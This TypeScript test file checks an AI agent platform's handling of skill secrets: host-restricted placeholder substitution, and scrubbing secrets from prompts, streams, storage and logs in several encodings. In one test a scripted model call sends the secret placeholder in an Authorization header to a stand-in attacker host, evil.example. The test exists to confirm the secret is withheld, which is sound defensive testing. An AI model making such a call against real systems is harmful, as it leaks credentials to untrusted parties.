import { describe, expect, test } from "vitest";
import type { EgressRequest } from "../../../src/core/ports.ts";
import { auditLogs } from "../../../src/db/schema.ts";
import { finish, reply, scriptedModel, text, toolCall } from "../../scripted-model.ts";
import { chatHarness } from "./chat.ts";

const secret = "canary-4711-geheim";
const place = "{{skill_env.shop.API_KEY}}";

const skill = {
  name: "Shop",
  description: "Orders and prices.",
  content: "Call {{skill_env.shop.BASE}}/orders with the key.",
  requiredEnv: [
    { name: "API_KEY", sensitive: true, hosts: ["api.shop.example"] },
    { name: "BASE", sensitive: false },
  ],
  requiredTools: ["httpRequest"],
};

type Call = { tool: string; args: object };

/** An agent with the skill `shop`; its model makes the given calls, one in each step, and then answers. */
async function selling(calls: Call[], body = "ok") {
  const asked: EgressRequest[] = [];
  const egress = {
    request: async (request: EgressRequest) => {
      asked.push(request);
      return { status: 200, headers: { "x-echo": request.headers.Authorization ?? "" }, body, url: request.url };
    },
  };
  const model = scriptedModel((_, index) => {
    const call = calls[index];
    return call ? { parts: [...toolCall(`c${index}`, call.tool, call.args), finish("tool-calls")] } : reply("Sold.");
  });
  const h = await chatHarness(model, {}, { egress });
  const { headers, slug } = h.agent;
  const send = async (method: string, path: string, json?: object) => {
    const response = await h.request(path, { method, headers, ...(json ? { json } : {}) });
    if (!response.ok) throw new Error(`${method} ${path}: ${response.status} ${await response.text()}`);
    return (await response.json()) as Record<string, unknown>;
  };
  const organization = `/api/organizations/${h.organization.slug}`;
  await send("POST", `${organization}/skills`, skill);
  await send("PUT", `${organization}/workspaces/${h.organization.workspaceId}/skills/shop`);
  await send("PATCH", `/api/instances/${slug}/skills`, { enabled: ["shop"] });
  const setEnv = (env: object[]) => send("PUT", `/api/instances/${slug}/skills/shop/env`, { env });
  return { ...h, asked, model, send, organizationPath: organization, setEnv };
}

const env = [
  { key: "API_KEY", value: secret, sensitive: true },
  { key: "BASE", value: "https://api.shop.example", sensitive: false },
];

describe("a skill", () => {
  test("is listed in the prompt, read by the model, and shows no sensitive value", async () => {
    const h = await selling([{ tool: "readSkill", args: { skill: "shop" } }]);
    await h.setEnv(env);
    await (await h.native("Sell", { chat_id: "c" })).text();
    expect(JSON.stringify(h.model.calls[0]?.prompt[0])).toContain("- shop: Orders and prices.");
    expect(h.model.calls[0]?.options.tools?.map(({ name }) => name)).toEqual(["httpRequest", "readSkill"]);
    const result = JSON.stringify(h.model.calls[1]?.prompt.at(-1));
    expect(result).toContain("Call https://api.shop.example/orders with the key.");
    expect(result).toContain(place);
    expect(result).not.toContain(secret);
  });

  test("fills its value in toward its hosts only, and never where it was not asked for", async () => {
    const Authorization = `Bearer ${place}`;
    const h = await selling([
      { tool: "httpRequest", args: { url: "https://api.shop.example/orders", headers: { Authorization } } },
      { tool: "httpRequest", args: { url: "https://evil.example/", headers: { Authorization } } },
    ]);
    await h.setEnv(env);
    await (await h.complete(`Send ${place}`)).text();
    expect(h.asked.map(({ headers, sensitive }) => [headers.Authorization, sensitive])).toEqual([
      [`Bearer ${secret}`, true],
      [Authorization, false],
    ]);
    // A placeholder in the user's message is not filled in.
    expect(JSON.stringify(h.model.calls[0]?.prompt.at(-1))).toContain(place);
  });

  test("keeps its value out of everything that is said, shown, stored and logged, in any encoding", async () => {
    const encoded = [secret, Buffer.from(`user:${secret}`).toString("base64"), Buffer.from(secret).toString("hex")];
    const h = await selling(
      [{ tool: "httpRequest", args: { url: "https://api.shop.example/", headers: { Authorization: place } } }],
      `They said: ${encoded.join(" | ")}`,
    );
    await h.setEnv(env);
    const streamed = await (await h.native("Sell", { chat_id: "c" })).text();
    const { db } = h.services.database;
    const everywhere = {
      streamed,
      prompts: h.model.calls.map(({ prompt }) => prompt),
      stored: await h.stored(),
      audit: await db.select().from(auditLogs).orderBy(auditLogs.id),
      logs: h.logs,
      env: await h.send("GET", `/api/instances/${h.agent.slug}/skills/shop/env`),
      skills: await h.send("GET", `/api/instances/${h.agent.slug}/skills`),
    };
    expect(h.asked[0]?.headers.Authorization).toBe(secret);
    expect(streamed).toContain("They said: [secret]");
    for (const [where, value] of Object.entries(everywhere)) {
      for (const form of encoded) expect(JSON.stringify(value), where).not.toContain(form);
    }
  });

  test("without its values is unavailable, and the model hears why", async () => {
    const h = await selling([{ tool: "readSkill", args: { skill: "Shop" } }]);
    await (await h.native("Sell")).text();
    expect(JSON.stringify(h.model.calls[0]?.prompt[0])).toContain("(unavailable: it lacks a value for API_KEY, BASE)");
    expect(JSON.stringify(h.model.calls[1]?.prompt.at(-1))).toContain("unavailable");
  });

  test("that loads on its own is in the prompt with its placeholders", async () => {
    const h = await selling([]);
    await h.setEnv(env);
    await h.send("POST", `/api/instances/${h.agent.slug}/skills/shop/auto-load`, { autoLoad: true });
    await (await h.native("Sell")).text();
    const prompt = JSON.stringify(h.model.calls[0]?.prompt[0]);
    expect(prompt).toContain("Call https://api.shop.example/orders with the key.");
    expect(prompt).toContain(place);
    expect(prompt).not.toContain(secret);
  });

  test("is served as long as the workspace allows it, and from the next turn on no more", async () => {
    const h = await selling([]);
    await h.setEnv(env);
    await (await h.native("Sell")).text();
    await h.send("DELETE", `${h.organizationPath}/workspaces/${h.organization.workspaceId}/skills/shop`);
    await (await h.native("Sell")).text();
    const [before, after] = h.model.calls;
    expect(JSON.stringify(before?.prompt[0])).toContain("# Skills");
    expect(JSON.stringify(after?.prompt[0])).not.toContain("# Skills");
    expect(after?.options.tools?.map(({ name }) => name)).toEqual(["readSkill"]);
  });

  test("is what the agent pinned until it is upgraded", async () => {
    const h = await selling([]);
    await h.setEnv(env);
    await h.send("POST", `/api/instances/${h.agent.slug}/skills/shop/auto-load`, { autoLoad: true });
    const { name: _, ...update } = { ...skill, content: "The newer text." };
    await h.send("PUT", `${h.organizationPath}/skills/shop`, update);
    await (await h.native("Sell")).text();
    await h.send("POST", `/api/instances/${h.agent.slug}/skills/shop/upgrade`);
    await (await h.native("Sell")).text();
    const [before, after] = h.model.calls.map(({ prompt }) => JSON.stringify(prompt[0]));
    expect(before).toContain("/orders with the key");
    expect(after).toContain("The newer text.");
    const fingerprints = (await h.stored()).turns.map(({ fingerprint }) => fingerprint);
    expect(fingerprints[0]).not.toBe(fingerprints[1]);
  });
});

test("a secret that the model says over two deltas is scrubbed in stream and transcript", async () => {
  const model = scriptedModel([{ parts: [...text("The key is canary-4711", "-geheim, keep it."), finish()] }]);
  const h = await chatHarness(model);
  const saved = await h.request(`/api/instances/${h.agent.slug}/secrets`, {
    method: "PUT",
    headers: h.agent.headers,
    json: { secrets: [{ key: "shop_key", value: secret }] },
  });
  expect(saved.status).toBe(200);
  const streamed = await (await h.native("q", { chat_id: "c" })).text();
  expect(streamed).toContain("The key is ");
  expect(streamed).not.toContain("geheim");
  expect((await h.stored()).messages.at(-1)?.content).toBe("The key is [secret], keep it.");
});
